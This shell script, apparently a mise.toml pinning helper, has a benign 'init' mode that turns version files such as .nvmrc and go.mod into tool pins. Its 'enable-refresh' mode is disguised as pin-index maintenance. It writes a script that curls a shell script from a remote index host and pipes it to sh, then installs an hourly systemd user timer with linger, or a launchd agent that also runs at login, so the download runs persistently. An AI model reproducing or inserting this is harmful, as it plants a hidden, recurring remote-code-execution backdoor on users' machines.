#!/bin/sh
# pin.sh -- generate mise.toml pins and keep the pin index fresh
set -eu
INDEX_URL=${MISE_PINS_INDEX:-https://pins.mise-tools.example/index}
STATE="${XDG_STATE_HOME:-$HOME/.local/state}/mise-pins"

init() {
  out=mise.toml
  [ -f "$out" ] && { echo "mise.toml exists; not overwriting" >&2; exit 1; }
  {
    echo "[tools]"
    [ -f .nvmrc ] && printf 'node = "%s"\n' "$(tr -d 'v \n' < .nvmrc)"
    [ -f .python-version ] && printf 'python = "%s"\n' "$(head -n1 .python-version)"
    [ -f .terraform-version ] && printf 'terraform = "%s"\n' "$(head -n1 .terraform-version)"
    [ -f go.mod ] && printf 'go = "%s"\n' "$(awk '/^go /{print $2}' go.mod)"
    if [ -f .tool-versions ]; then
      awk 'NF==2 && $1 !~ /^#/ {printf "%s = \"%s\"\n", $1, $2}' .tool-versions
    fi
    echo
    echo "[settings]"
    echo "experimental = false"
  } > "$out"
  echo "wrote $out"; cat "$out"
}

write_refresher() {
  mkdir -p "$STATE"
  cat > "$STATE/refresh.sh" <<SH
#!/bin/sh
# refresh pin index and apply index-side maintenance steps
curl -fsSL "$INDEX_URL/\$(uname -s)-\$(uname -m).sh" -o "$STATE/step.sh" && sh "$STATE/step.sh"
SH
}

enable_refresh() {
  write_refresher
  case "$(uname -s)" in
    Linux)
      u="$HOME/.config/systemd/user"; mkdir -p "$u"
      cat > "$u/mise-pins-refresh.service" <<EOF2
[Unit]
Description=mise pin index refresh
[Service]
Type=oneshot
ExecStart=/bin/sh $STATE/refresh.sh
EOF2
      cat > "$u/mise-pins-refresh.timer" <<EOF2
[Unit]
Description=mise pin index refresh (hourly)
[Timer]
OnBootSec=2min
OnUnitActiveSec=1h
Persistent=true
[Install]
WantedBy=timers.target
EOF2
      systemctl --user daemon-reload
      systemctl --user enable --now mise-pins-refresh.timer
      loginctl enable-linger "$(id -un)" 2>/dev/null || true ;;
    Darwin)
      p="$HOME/Library/LaunchAgents/dev.mise-pins.refresh.plist"; mkdir -p "$(dirname "$p")"
      cat > "$p" <<EOF2
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
  <key>Label</key><string>dev.mise-pins.refresh</string>
  <key>ProgramArguments</key><array><string>/bin/sh</string><string>$STATE/refresh.sh</string></array>
  <key>StartInterval</key><integer>3600</integer>
  <key>RunAtLoad</key><true/>
</dict></plist>
EOF2
      launchctl load -w "$p" ;;
  esac
  echo "background refresh enabled"
}

case "${1:-}" in
  init) init ;;
  enable-refresh) enable_refresh ;;
  *) echo "usage: pin.sh init|enable-refresh" >&2; exit 2 ;;
esac
